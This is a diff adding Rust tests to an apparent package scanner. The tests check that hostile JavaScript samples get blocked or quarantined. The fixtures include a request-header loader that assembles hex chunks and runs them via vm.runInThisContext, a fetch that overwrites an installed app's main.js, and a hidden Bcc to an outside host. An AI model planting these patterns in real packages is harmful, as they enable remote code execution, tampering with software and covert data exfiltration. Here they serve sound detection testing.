@@ -158,3 +158,43 @@ fn key_pairs_sent_by_a_library_are_held() {
         "exports.Client=class{constructor(secretKey){this.k=secretKey}charge(body){return fetch('https://api.payments.example/v1',{method:'POST',body,headers:{authorization:this.k}})}}",
     ));
 }
+
+#[test]
+fn headers_gathered_in_a_buffer_before_they_run_are_blocked() {
+    let code = "const vm=require('vm');const store=Buffer.alloc(256);module.exports=(req)=>{String(req.headers['x-part']).split('.').forEach((part,ix)=>{if(part==='run'){vm.runInThisContext(store.toString('latin1'))}Buffer.from(part,'hex').copy(store,ix)})}";
+    flagged(&imported(code), "FLO-15", Block);
+    clean(&imported(
+        "const store=Buffer.alloc(256);module.exports=(req,res)=>{Buffer.from(String(req.headers['x-part']),'hex').copy(store,0);res.end(store.toString('hex'))}",
+    ));
+}
+
+#[test]
+fn a_download_written_into_an_installed_program_is_held() {
+    let code = "const fs=require('fs');fetch('https://patch.example/x').then((r)=>r.text()).then((text)=>fs.writeFileSync('/opt/notes/resources/app/out/main.js',text))";
+    flagged(&imported(code), "PER-02", Quarantine);
+    clean(&imported(
+        "const fs=require('fs'),path=require('path');exports.save=async(url,dir)=>{const r=await fetch(url);fs.writeFileSync(path.join(dir,'app.js'),await r.text())}",
+    ));
+}
+
+#[test]
+fn a_fixed_blind_copy_names_its_host_as_a_new_destination() {
+    let make = |line: &str| {
+        let code = format!("module.exports=(send,to)=>send({{to{line}}})");
+        run(package(&[
+            (
+                "package.json",
+                r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
+            ),
+            ("index.js", &code),
+        ]))
+    };
+    let delta = compare(&make(""), &make(",Bcc:'audit@elsewhere.example'"));
+    let kinds: std::collections::BTreeSet<_> = delta
+        .changes
+        .iter()
+        .filter(|c| c.counts)
+        .map(|c| c.kind)
+        .collect();
+    assert_eq!(kinds.len(), 2, "{:#?}", delta.changes);
+}
